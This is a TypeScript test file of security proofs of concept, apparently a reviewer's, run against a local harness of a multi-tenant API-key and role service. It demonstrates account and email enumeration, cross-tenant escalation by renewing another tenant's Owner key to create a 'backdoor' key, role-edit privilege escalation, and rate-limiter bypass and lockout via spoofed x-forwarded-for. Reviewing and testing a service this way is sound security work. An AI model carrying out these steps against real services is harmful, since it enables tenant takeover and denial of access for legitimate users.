/**
 * Security PoCs (reviewer). Copied to test/zz-attack-poc.test.ts to use the harness, then deleted.
 */
import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { generateAppToken } from "../src/core/tokens.js";
import { type Credentials, createHarness, type Harness, OWNER_PASSWORD } from "./support/harness.js";

const OWNER = 1;
const USER_ADMIN = 2;
const OMS_READ = 10;
const IP = "203.0.113.9";
const OTHER_IP = "198.51.100.4";
const letters = (n: number) =>
  Array.from(randomBytes(n), (b) => String.fromCharCode(65 + (b % 26))).join("");
const lkt = () => generateAppToken((n) => randomBytes(n), "lkt");

async function customRole(h: Harness, account: string, name: string, resources: string[], as?: Credentials) {
  const r = await h.request("POST", `/v1/accounts/${account}/roles`, { body: { name, resources }, ...(as ? { as } : {}) });
  if (r.status !== 201) throw new Error(`role ${name}: ${r.status} ${r.text}`);
  return r.body.id as number;
}

describe.each(["sqlite"] as const)("attack PoCs on %s", (kind) => {
  let h: Harness;
  let betaOwner: Credentials;
  beforeAll(async () => {
    h = await createHarness(kind);
    const beta = await h.services.accounts.init({ account: "beta", email: "owner@beta.test", password: "beta-password-123" });
    betaOwner = { appKey: beta.appKey, appToken: beta.appToken };
  });
  afterAll(() => h.close());

  it("F1: VTEX `an` tells existing accounts from missing ones (native API does not)", async () => {
    const weak = await h.createKey("weak-f1", []);
    const nativeExisting = await h.request("GET", "/v1/accounts/beta/keys", { as: weak });
    const nativeMissing = await h.request("GET", "/v1/accounts/nosuchacct/keys", { as: weak });
    const vtexExisting = await h.request("GET", "/api/vlm/appkeys?an=beta", { as: weak });
    const vtexMissing = await h.request("GET", "/api/vlm/appkeys?an=nosuchacct", { as: weak });
    const vtexRolesMissing = await h.request("GET", "/api/license-manager/users/x/roles?an=nosuchacct", { as: weak });
    console.log("F1", nativeExisting.status, nativeMissing.status, "|", vtexExisting.status, vtexExisting.text, "|", vtexMissing.status, vtexMissing.text, "|", vtexRolesMissing.status);
    expect(nativeExisting.status).toBe(nativeMissing.status);
    expect(vtexExisting.status).not.toBe(vtexMissing.status); // the leak
  });

  it("F4: any account admin adds another tenant's user (no consent), learns the email exists, and sees their sign-ins", async () => {
    // Oracle: with a password, an email that has a sign-in anywhere is 409, an unknown one 201.
    const known = await h.request("POST", "/v1/accounts/beta/users", {
      as: betaOwner,
      body: { email: "owner@acme.test", password: "x".repeat(12) },
    });
    const unknown = await h.request("POST", "/v1/accounts/beta/users", {
      as: betaOwner,
      body: { email: `nobody-${letters(5).toLowerCase()}@acme.test`, password: "x".repeat(12) },
    });
    console.log("F4 oracle", known.status, known.body?.code, unknown.status);
    expect(known.status).toBe(409);
    expect(unknown.status).toBe(201);
    // Add acme's Owner to beta with no roles: no consent needed.
    const added = await h.request("POST", "/v1/accounts/beta/users", { as: betaOwner, body: { email: "owner@acme.test" } });
    console.log("F4 add", added.status, JSON.stringify(added.body));
    expect(added.status).toBe(201);
    // The victim signs in (to work in acme) and also mistypes once.
    const hdr = { "user-agent": "VictimBrowser/1.0 (secret-laptop)" };
    await h.request("POST", "/v1/auth/login", { as: null, headers: hdr, body: { email: "owner@acme.test", password: "wrong password!!" } });
    const ok = await h.request("POST", "/v1/auth/login", { as: null, headers: hdr, body: { email: "owner@acme.test", password: OWNER_PASSWORD } });
    expect(ok.status).toBe(200);
    const log = await h.request("GET", "/v1/accounts/beta/audit?limit=200", { as: betaOwner });
    log.body.items = log.body.items.filter((e: { action: string }) => e.action.startsWith("user.sign"));
    console.log("F4 raw", JSON.stringify(log.body.items[0]));
    const seen = log.body.items.map((e: Record<string, unknown>) => `${e.action} ${JSON.stringify(e.actor ?? e.actorLabel)} ua=${JSON.stringify(e.userAgent ?? (e.actor as Record<string, unknown>)?.userAgent)}`);
    console.log("F4 beta audit", log.status, seen);
    expect(log.body.items.length).toBeGreaterThanOrEqual(2);
  });

  it("F5: a RenewApiToken-only caller in acme renews a key that is Owner in beta and acts as beta's Owner", async () => {
    const renewOnly = await customRole(h, "acme", "renew only", ["RenewApiToken"]);
    const renewer = await h.createKey("renewer-f5", [renewOnly]);
    const partner = await h.createKey("partner-f5", []); // holds nothing in acme
    const add = await h.request("POST", "/v1/accounts/beta/external-keys", { as: betaOwner, body: { appKey: partner.appKey, roles: [OWNER] } });
    expect(add.status).toBe(201);
    // The renewer could not create a key in beta or list beta's users itself.
    expect((await h.request("GET", "/v1/accounts/beta/users", { as: renewer })).status).toBe(403);
    const renewed = await h.request("POST", `/v1/accounts/acme/keys/${partner.appKey}/renewal`, { as: renewer, body: { deleteOldToken: "now" } });
    console.log("F5 renew", renewed.status);
    expect(renewed.status).toBe(201);
    const stolen = { appKey: partner.appKey, appToken: renewed.body.appToken as string };
    const users = await h.request("GET", "/v1/accounts/beta/users", { as: stolen });
    const ownerKey = await h.request("POST", "/v1/accounts/beta/keys", { as: stolen, body: { name: "backdoor", roles: [OWNER] } });
    console.log("F5 as stolen in beta: users", users.status, "owner key created", ownerKey.status);
    expect(ownerKey.status).toBe(201);
  });

  it("F6: editing a role the caller covers changes the grant of a holder the caller does not cover", async () => {
    const r1 = await customRole(h, "acme", "view keys f6", ["ViewApiKeys"]);
    const admin = await h.createKey("user-admin-f6", [USER_ADMIN]);
    const strong = await h.createKey("strong-f6", [r1, OMS_READ]);
    const direct = await h.request("PUT", `/v1/accounts/acme/keys/${strong.appKey}/roles`, { as: admin, body: { roles: [OMS_READ] } });
    console.log("F6 direct setRoles", direct.status, direct.body?.code);
    expect(direct.status).toBe(403);
    const edit = await h.request("PUT", `/v1/accounts/acme/roles/${r1}`, {
      as: admin,
      body: { name: "view keys f6", resources: ["ViewApiKeys", "EditApiKeys", "EditAdminUsers", "RenewApiToken"] },
    });
    const v = await h.request("POST", "/v1/verify", { as: null, body: { appKey: strong.appKey, appToken: strong.appToken, resource: "EditAdminUsers" } });
    console.log("F6 role edit", edit.status, "strong now holds", v.body.resources);
    expect(edit.status).toBe(200);
  });
});

describe("limiter PoCs (sqlite)", () => {
  it("F2: a burst of made-up appKeys costs one DB lookup each, far past the failure limit", async () => {
    const h = await createHarness("sqlite", { rateLimit: { failures: 5, windowSeconds: 60 }, trustProxy: true });
    try {
      let lookups = 0;
      const original = h.store.getKeyByAppKey.bind(h.store);
      h.store.getKeyByAppKey = (appKey: string) => {
        lookups++;
        return original(appKey);
      };
      const N = 400;
      const results = await Promise.all(
        Array.from({ length: N }, () =>
          h.request("POST", "/v1/verify", {
            as: null,
            headers: { "x-forwarded-for": IP },
            body: { appKey: `appkey-acme-${letters(6)}`, appToken: lkt() },
          }),
        ),
      );
      const statuses: Record<number, number> = {};
      for (const r of results) statuses[r.status] = (statuses[r.status] ?? 0) + 1;
      console.log("F2 lookups", lookups, "for", N, "requests; limit 5 (+5 allowance); statuses", statuses);
      expect(lookups).toBeGreaterThan(10);
      h.advance(120_000);
      lookups = 0;
      const seq: number[] = [];
      for (let i = 0; i < 40; i++) {
        const r = await h.request("POST", "/v1/verify", { as: null, headers: { "x-forwarded-for": OTHER_IP }, body: { appKey: `appkey-acme-${letters(6)}`, appToken: lkt() } });
        seq.push(r.status);
      }
      console.log("F2 sequential contrast: lookups", lookups, "for 40 requests; statuses", seq.join(","));
    } finally {
      await h.close();
    }
  });

  it("F3: from a blocked address, a correct token of a key that just changed gets 429", async () => {
    const h = await createHarness("sqlite", { rateLimit: { failures: 3, windowSeconds: 300 }, trustProxy: true });
    try {
      const legit = await h.createKey("integration", [OMS_READ]);
      const asVictim = (body: unknown) =>
        h.request("POST", "/v1/verify", { as: null, headers: { "x-forwarded-for": IP }, body });
      expect((await asVictim({ appKey: legit.appKey, appToken: legit.appToken })).body.valid).toBe(true); // cached now
      // Attacker behind the same egress address (or any client behind a gateway when TRUST_PROXY is off).
      for (let i = 0; i < 20; i++) await asVictim({ appKey: `appkey-acme-${letters(6)}`, appToken: lkt() });
      const stillServed = await asVictim({ appKey: legit.appKey, appToken: legit.appToken });
      console.log("F3 cached key from blocked address:", stillServed.status);
      // Any change to the key (here: the owner renames it, from elsewhere) drops its cache entry.
      const rename = await h.request("PATCH", `/v1/accounts/acme/keys/${legit.appKey}`, { body: { name: "integration v2" } });
      expect(rename.status).toBe(200);
      const after = await asVictim({ appKey: legit.appKey, appToken: legit.appToken });
      const mgmt = await h.request("GET", "/v1/me", { as: legit, headers: { "x-forwarded-for": IP } });
      console.log("F3 correct token after the change:", after.status, after.body?.code, "| /v1/me", mgmt.status);
      expect(after.status).toBe(429);
      // Renewal: the integration switches to the new token, also 429.
      const renewed = await h.request("POST", `/v1/accounts/acme/keys/${legit.appKey}/renewal`, { headers: { "x-forwarded-for": OTHER_IP }, body: {} });
      const newTok = await asVictim({ appKey: legit.appKey, appToken: renewed.body.appToken });
      console.log("F3 new token after renewal:", newTok.status);
    } finally {
      await h.close();
    }
  });
});
